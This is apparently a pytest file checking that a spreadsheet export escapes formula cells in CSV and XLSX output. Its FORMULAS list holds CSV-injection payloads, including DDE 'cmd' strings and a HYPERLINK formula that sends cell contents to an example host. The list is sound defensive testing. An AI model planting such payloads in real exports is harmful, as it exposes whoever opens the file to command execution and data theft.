"""Tables for spreadsheets: read back by other readers, and no formula among the cells."""

import csv
import io

import openpyxl
import pytest

from exports.tables import Table, as_csv, guarded, unguarded
from exports.to_xlsx import as_xlsx

#: What has been used against those who open a spreadsheet (OWASP, CSV injection), and what is like it.
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org?x="&A1,"here")',
    "=IMPORTXML(CONCAT(A1),B1)",
    "=DDE(1;2;3)",
    "+1+1",
    "+cmd|'/C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''=1+1",
    "'+1",
]
PLAIN = ["Zażółć gęślą jaźń", "Хто пояснює?", "a,b;c", 'say "yes"', "two\nlines", "", "'quoted'"]


def table(words):
    return Table(name="words", columns=("n", "word"), rows=[*enumerate(words, 1)])


def test_csv_is_read_back_with_every_formula_guarded():
    rows = csv.reader(
        io.StringIO(as_csv(table([*PLAIN, *FORMULAS])).decode("utf-8-sig"), newline="")
    )

    head, *found = rows

    assert head == ["n", "word"]
    assert [word for _, word in found[: len(PLAIN)]] == PLAIN
    for (_, word), formula in zip(found[len(PLAIN) :], FORMULAS, strict=True):
        assert word == f"'{formula}"
        assert unguarded(word) == formula


@pytest.mark.parametrize("number", [-3, 0, 2.5, None])
def test_numbers_are_left_alone(number):
    assert guarded(number) == number


def test_xlsx_is_read_back_as_text_and_numbers():
    words = [*PLAIN, *FORMULAS, "bell\x07"]
    book = openpyxl.load_workbook(io.BytesIO(as_xlsx([table(words), table([])])))

    sheet = book.worksheets[0]
    cells = [*sheet.iter_rows(min_row=2)]

    assert [cell.data_type for _, cell in cells if cell.value] == ["s"] * len(
        [*filter(None, words)]
    )
    assert [n.value for n, _ in cells] == [*range(1, len(words) + 1)]
    found = [cell.value or "" for _, cell in cells]
    # A bell is no character of XML.
    assert found == [word.removesuffix("\x07") for word in words]
    assert sheet.freeze_panes == "A2"
    assert book.worksheets[1].max_row == 1
